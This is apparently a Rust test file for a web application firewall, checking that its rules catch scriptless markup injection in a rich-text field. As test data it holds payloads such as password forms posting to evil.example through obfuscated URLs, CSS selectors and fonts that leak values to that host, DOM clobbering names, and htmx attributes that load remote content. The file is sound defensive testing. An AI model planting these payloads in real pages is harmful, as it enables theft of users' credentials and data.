//! Markup that steals without a script: forms, styles and names, in a field that takes markup.

use portcullis::waf::{Field, FieldKind, RawRequest, Ruleset, Waf};

/// The names of the rules that see something in a field of markup.
fn rules(ruleset: Ruleset, markup: &str) -> Vec<String> {
    let waf = Waf::builder(ruleset).field(Field::named("html"), FieldKind::RichText);
    let body = format!("html={}", super::attacks::encode(markup));
    let request = RawRequest::new("POST", "/")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(&body);
    let report = waf.build().unwrap().judge(&request);
    let found = report
        .matches()
        .iter()
        .map(|found| found.rule().to_string());
    found.collect()
}

#[test]
fn markup_that_steals_is_found() {
    let cases = [
        (
            "a form",
            1,
            "<form action=//evil.example><input type=password></form>",
            "xss-foreign-form",
        ),
        (
            "with a scheme",
            1,
            "<FORM method=post\naction=\"ht\ntps://evil.example/\">",
            "xss-foreign-form",
        ),
        (
            "with backslashes",
            1,
            "<form action='/\\evil.example'>",
            "xss-foreign-form",
        ),
        (
            "with references",
            1,
            "<form action='&#47;&#47;evil.example'>",
            "xss-foreign-form",
        ),
        (
            "a style that loads",
            1,
            "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
            "xss-active-style",
        ),
        (
            "with an escape",
            1,
            "<style type=text/css>a{background:u\\72l(//evil.example/a)}</style>",
            "xss-active-style",
        ),
        (
            "a font",
            1,
            "<style>@font-face{src:/**/url('https://evil.example')}",
            "xss-active-style",
        ),
        (
            "an image for the cookie",
            2,
            "<img name=cookie>",
            "xss-clobbering",
        ),
        (
            "a call that finds elements",
            2,
            "<a id=querySelector>",
            "xss-clobbering",
        ),
        (
            "a member of a form",
            2,
            "<form><input name=parentNode></form>",
            "xss-clobbering",
        ),
        (
            "htmx",
            2,
            "<div hx-get=//evil.example/ hx-trigger=load></div>",
            "xss-library-attribute",
        ),
        (
            "htmx in data",
            2,
            "<div data-hx-on:load=x></div>",
            "xss-library-attribute",
        ),
        (
            "Alpine",
            2,
            "<div x-data x-init=a></div>",
            "xss-library-attribute",
        ),
    ];
    for (name, level, markup, rule) in cases {
        let found = rules(Ruleset::builtin().level(level).unwrap(), markup);
        assert!(
            found.iter().any(|found| found == rule),
            "{name}: {markup} {found:?}"
        );
    }
}

#[test]
fn markup_that_is_honest_passes() {
    let cases = [
        (
            "a form of the site",
            "<form action=\"/search\"><input name=q></form>",
        ),
        (
            "a style of letters",
            "<style>p { color: red; margin: 0 auto }</style>",
        ),
        (
            "a heading",
            "<h2 id=\"location\">Where</h2><h2 id=\"links\">More</h2><a name=\"top\"></a>",
        ),
        (
            "a field",
            "<input name=\"body\"><img name=\"photo\" alt=\"cookie\">",
        ),
        (
            "attributes of the site",
            "<p data-id=\"7\" data-x=\"y\" title=\"hx-get\">x</p>",
        ),
        (
            "a word about it",
            "hx-get and x-init are attributes; a form has an action",
        ),
    ];
    for (name, markup) in cases {
        let found = rules(Ruleset::builtin().level(2).unwrap(), markup);
        assert!(found.is_empty(), "{name}: {found:?}");
    }
}
